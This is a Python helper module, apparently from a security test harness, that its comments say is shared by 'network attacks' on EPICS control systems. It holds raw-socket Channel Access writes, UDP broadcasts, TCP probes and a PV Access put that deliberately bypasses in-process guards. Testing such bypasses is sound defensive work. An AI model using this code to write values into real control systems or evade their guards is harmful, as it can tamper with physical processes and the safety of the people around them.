# Helpers the network attacks share (prepended to each attack's code): Channel Access and PV Access spoken
# directly over sockets, past any in-process guard.
import os
import socket
import struct

HDR = struct.Struct(">HHHHII")


def _pad(b):
    return b + b"\0" * (8 - len(b) % 8)


def _frames(sock, want):
    buf = b""
    while True:
        data = sock.recv(4096)
        if not data:
            raise ConnectionError("closed by the server")
        buf += data
        while len(buf) >= 16:
            cmd, size, dtype, count, p1, p2 = HDR.unpack(buf[:16])
            if len(buf) < 16 + size:
                break
            if cmd in want:
                return cmd, p1, p2
            buf = buf[16 + size:]


def ca_write(host, channel, value, port=5064, user=None):
    """A Channel Access WRITE_NOTIFY on a circuit of our own: the server's status (1: written), or why not. With
    `user`, the circuit announces that client name first, as every CA client library does."""
    try:
        sock = socket.create_connection((host, port), timeout=3)
        chan = _pad(channel.encode())
        name = b"" if user is None else _pad(user.encode())
        announce = HDR.pack(20, len(name), 0, 0, 0, 0) + name if user is not None else b""
        sock.sendall(HDR.pack(0, 0, 0, 13, 0, 0) + announce + HDR.pack(18, len(chan), 0, 0, 42, 13) + chan)
        cmd, p1, sid = _frames(sock, {18, 26, 11})
        if cmd != 18:
            return f"no channel ({cmd})"
        sock.sendall(HDR.pack(19, 8, 6, 1, sid, 7) + struct.pack(">d", value))
        cmd, status, _ = _frames(sock, {19, 11})
        return f"status {status}" if cmd == 19 else "error message"
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"


def udp_send(host, port, payload):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.settimeout(1)
        s.sendto(payload, (host, port))
        return f"answered {len(s.recvfrom(4096)[0])} bytes"
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"


def tcp_connect(host, port):
    try:
        socket.create_connection((host, port), timeout=2).close()
        return "connected"
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"


def pva_put(addr_list, channel, value):
    """p4p's raw client, which no guard patches, at the servers addr_list names."""
    os.environ.update(EPICS_PVA_ADDR_LIST=addr_list, EPICS_PVA_AUTO_ADDR_LIST="NO")
    import threading

    from p4p.client.raw import Context
    from p4p.nt import NTScalar

    ctx = Context("pva", useenv=True)  # without useenv the raw client ignores EPICS_PVA_* (and reaches nothing)
    done = threading.Event()
    outcome = []

    def finished(v):
        outcome.append(repr(v)[:100])
        done.set()

    op = ctx.put(channel, finished, builder=NTScalar("d").wrap(value), request=None)
    answer = outcome[0] if done.wait(3.0) else "no answer"
    op.close()
    ctx.close()
    return answer
